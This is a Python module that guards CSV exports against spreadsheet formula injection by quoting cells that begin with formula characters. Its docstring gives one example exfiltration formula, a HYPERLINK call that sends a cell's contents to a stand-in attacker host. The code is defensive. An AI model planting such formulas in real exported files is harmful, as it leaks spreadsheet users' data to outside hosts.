"""Cells safe to open in a spreadsheet: the one rule every CSV the product writes goes through (issue 16).

A cell starting with = + - @ (or a tab or carriage return) is read as a formula by Excel, LibreOffice and Google
Sheets: `=HYPERLINK("https://evil.example/?"&A1, "Click")` in a news quote or an official field would run in the
reader's spreadsheet. Following OWASP's rule, such a text cell gets a leading single quote, which the spreadsheet
shows as text. Numbers are not touched (a negative count or share stays a number), nor is text that is a plain
number ("-12.5"), which a spreadsheet reads as that number and nothing else.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Sequence
from typing import Any

# OWASP's list, plus the full-width forms some spreadsheet locales also read as formula starts.
FORMULA_STARTS = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:[.,]\d*)?|[.,]\d+)(?:[eE][+-]?\d+)?\Z")


def _neutralised(text: str) -> str:
    # Leading spaces do not stop some spreadsheets from reading the formula after them.
    stripped = text.lstrip(" ")
    if not stripped or stripped[0] not in FORMULA_STARTS:
        return text
    if _PLAIN_NUMBER.match(stripped):
        return text
    return "'" + text


def safe_cell(value: Any) -> Any:
    """The value to write: None as an empty cell, a formula-like text with a leading quote, anything else as is."""
    if value is None:
        return ""
    if value.__class__ is str and value and (value[0] in FORMULA_STARTS or value[0] == " "):
        return _neutralised(value)
    return value


def safe_row(row: Iterable[Any]) -> list[Any]:
    """safe_cell on every cell (inlined for the common cases: the contributions CSV writes millions of cells)."""
    starts = FORMULA_STARTS
    return [
        "" if v is None else (_neutralised(v) if v.__class__ is str and v and (v[0] in starts or v[0] == " ") else v)
        for v in row
    ]


class SafeWriter:
    """csv.writer whose rows go through safe_row; writerow returns what the underlying writer returns."""

    def __init__(self, stream: Any, **kwargs: Any) -> None:
        self._writer = csv.writer(stream, **kwargs)

    def writerow(self, row: Sequence[Any]) -> Any:
        return self._writer.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Sequence[Any]]) -> None:
        for row in rows:
            self._writer.writerow(safe_row(row))


def writer(stream: Any, **kwargs: Any) -> SafeWriter:
    """The CSV writer for every file the product serves (csv.writer's arguments)."""
    return SafeWriter(stream, **kwargs)
